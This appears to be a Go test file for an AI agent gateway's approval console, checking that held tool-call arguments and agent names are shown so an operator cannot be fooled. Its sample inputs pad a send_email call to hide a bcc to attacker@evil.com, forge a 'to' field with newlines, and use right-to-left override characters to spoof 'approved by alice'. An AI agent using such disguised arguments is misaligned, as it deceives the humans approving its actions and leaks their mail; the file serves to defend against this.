package console

import (
	"bufio"
	"context"
	"encoding/json"
	"html"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json/jsontext"

	"github.com/sluicehq/sluice/approval"
	"github.com/sluicehq/sluice/audit"
	"github.com/sluicehq/sluice/intercept"
	"github.com/sluicehq/sluice/telemetry"
)

var preBlock = regexp.MustCompile(`(?s)<pre[^>]*>(.*?)</pre>`)

// holdCall puts a call with these raw arguments, as the agent sent them,
// on hold in st.
func holdCall(t *testing.T, st *approval.Store, agent, tool string, args string) {
	t.Helper()
	g := &approval.Gate{Store: st, Next: intercept.DeciderFunc(func(context.Context, *intercept.ActionDescriptor) (intercept.Decision, error) {
		return intercept.Decision{Verdict: intercept.RequireApproval, Reason: "rule", RuleID: "hold"}, nil
	})}
	dec, err := g.Decide(context.Background(), &intercept.ActionDescriptor{Upstream: "mail", ToolName: tool, Agent: agent, TxnID: "t1",
		Parameters: jsontext.Value(args)})
	if err != nil || dec.ApprovalID == "" {
		t.Fatalf("holding the call: %+v %v", dec, err)
	}
}

// A held call's arguments are what the operator approves, and the agent
// chooses them. The page printed them as one line in a box that scrolls:
// a long string first ({"note":"xxx…3,000 characters","bcc":…}) pushed
// the members after it out of sight, beside or below what the operator
// read, and a right-to-left override inside a string turned the rest of
// the line around. The console lays them out one member a line, wrapped
// (console.css; TestConsoleInBrowser checks the box in Chromium), with
// invisible characters written as their \u escapes.
func TestConsoleHeldArgumentsLaidOutByConsole(t *testing.T) {
	st, err := approval.OpenStore(filepath.Join(t.TempDir(), approval.FileName), approval.Options{}) // as sluice serve keeps them
	if err != nil {
		t.Fatal(err)
	}
	holdCall(t, st, "agent-a", "send_email", `{"to":"boss@corp.com","note":"`+strings.Repeat("x", 3000)+`",`+
		`"bcc":"attacker@evil.com","body":"see `+"\u202e"+`attached"}`)
	_, cl, base := reviewConsole(t, Deps{Approvals: st, KeepArguments: true})
	page := reviewGet(t, cl, base+"/approvals")
	m := preBlock.FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("no arguments shown:\n%s", page)
	}
	args := html.UnescapeString(m[1])
	if !strings.Contains(args, "\n  \"bcc\": \"attacker@evil.com\",\n") {
		t.Errorf("got arguments\n%s\nwant the bcc member on a line of its own", args)
	}
	if strings.ContainsRune(args, '\u202e') || !strings.Contains(args, `see \u202eattached`) {
		t.Errorf("got arguments\n%s\nwant the right-to-left override spelt \\u202e", args)
	}
}

// A call's page printed its kept arguments with Go's %v: map[a:… to:…],
// strings unquoted and their newlines raw. An agent's argument
// {"a":"x to:boss@corp.com\n\n…","to":"attacker@evil.com"} then read
// "map[a:x to:boss@corp.com" with the real "to" far below. JSON, one
// member a line, cannot be forged from inside a string.
func TestConsoleCallArgumentsUnforgeable(t *testing.T) {
	ev, err := audit.Open(filepath.Join(t.TempDir(), "events.db"), audit.Options{Sync: true})
	if err != nil {
		t.Fatal(err)
	}
	defer ev.Close()
	args := telemetry.Redactor{KeepArguments: true}.Arguments([]byte(`{"to":"attacker@evil.com","a":"x to:boss@corp.com` + strings.Repeat(`\n`, 200) + `"}`))
	if err := ev.Append(context.Background(), telemetry.PolicyEnforcement{Time: time.Now(), TxnID: "txn1", Agent: "agent-a", Upstream: "mail",
		Tool: "send_email", Decision: "allow", Reason: "rule", Arguments: args}.Event()); err != nil {
		t.Fatal(err)
	}
	_, cl, base := reviewConsole(t, Deps{Events: ev, KeepArguments: true})
	page := reviewGet(t, cl, base+"/calls/txn1")
	m := preBlock.FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("no arguments shown:\n%s", page)
	}
	shown := html.UnescapeString(m[1])
	if !json.Valid([]byte(shown)) || strings.Contains(shown, "\n\n") || !strings.Contains(shown, `"to": "attacker@evil.com"`) {
		t.Errorf("got arguments\n%s\nwant JSON, one member a line, with \"to\": \"attacker@evil.com\"", shown)
	}
}

// Agent names are whatever a client calls itself without auth: (and an
// agent header's value, an A2A card's skill ids). Tool names with
// bidirectional controls are refused at the gateway because they could
// disguise the line that records the call; the same characters in an
// agent's name reached the console's pages and its live feed raw, and
// turned the text after them around ("approved mail/send_email for
// <agent> by alice"). The console spells them out, on its pages and on
// the live feed.
func TestConsoleSpellsOutBidiControls(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	ev, err := audit.Open(filepath.Join(t.TempDir(), "events.db"), audit.Options{Sync: true})
	if err != nil {
		t.Fatal(err)
	}
	defer ev.Close()
	agent := "mallory\u202e\u2066ecila yb"
	decide := func(txn string) {
		if err := ev.Append(ctx, telemetry.PolicyEnforcement{Time: time.Now(), TxnID: txn, Agent: agent, Session: "s1", Upstream: "mail",
			Tool: "send_email", Decision: "deny", Reason: "rule"}.Event()); err != nil {
			t.Fatal(err)
		}
	}
	decide("txn1")
	st := approval.NewStore(approval.Options{})
	holdCall(t, st, agent, "send_email", `{}`)
	_, cl, base := reviewConsole(t, Deps{Events: ev, Approvals: st})
	for _, p := range []string{"/feed", "/agents", "/approvals", "/calls/txn1"} {
		page := reviewGet(t, cl, base+p)
		if !strings.Contains(page, "mallory") {
			t.Fatalf("%s does not show the agent:\n%s", p, page)
		}
		if strings.ContainsAny(page, "\u202e\u2066") {
			t.Errorf("%s holds the agent name's bidirectional controls raw, want them spelt out", p)
		}
	}
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, base+"/feed/stream", nil)
	stream, err := cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer stream.Body.Close()
	decide("txn2")
	lines := bufio.NewScanner(stream.Body)
	for lines.Scan() {
		l, ok := strings.CutPrefix(lines.Text(), "data: ")
		if !ok {
			continue
		}
		var row map[string]any
		if err := json.Unmarshal([]byte(l), &row); err != nil {
			t.Fatal(err)
		}
		if a, _ := row["agent"].(string); !strings.Contains(a, "mallory") || strings.ContainsAny(a, "\u202e\u2066") {
			t.Errorf("the live feed's agent is %q, want it with its bidirectional controls spelt out", a)
		}
		return
	}
	t.Fatal("no decision on the live feed")
}
